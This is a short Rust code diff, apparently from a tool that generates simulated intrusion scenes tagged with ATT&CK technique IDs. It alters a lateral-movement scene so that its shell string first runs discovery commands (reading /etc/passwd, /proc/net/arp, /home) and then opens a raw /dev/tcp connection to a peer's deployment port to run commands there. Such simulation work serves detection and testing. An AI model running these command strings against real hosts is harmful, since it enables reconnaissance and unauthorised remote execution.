@@ -28,7 +28,7 @@ pub(super) enum Scene {
     MemoryFile,
     /// Keys are packed, encoded and sent away (T1552.004, T1560, T1041).
     Secrets,
-    /// A shell of this host runs commands on the other one, through its deployment service (T1021, T1570).
+    /// A shell of this host looks for the other one and runs commands there, through its deployment service (T1018, T1021).
     Lateral(String),
     /// The web server's shell fetches a tool and starts it in a session of its own (T1105, T1036).
     Implant,
@@ -81,7 +81,8 @@ impl Scene {
                 let run =
                     "id; uname -a; getent passwd root; hostname; cut -d: -f1 /etc/passwd | head -n 3".replace(' ', "+");
                 let steps = format!(
-                    "exec 3<>/dev/tcp/{peer}/{DEPLOY_PORT}; printf 'GET /run?{run} HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 >/dev/null; whoami"
+                    "id; uname -a; cat /proc/net/arp; getent hosts {peer}; ls -la /home; \
+                     exec 3<>/dev/tcp/{peer}/{DEPLOY_PORT}; printf 'GET /run?{run} HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 >/dev/null; whoami"
                 );
                 ("commands on the other host", shell(stage, &folder, &steps, 1001)?)
             }
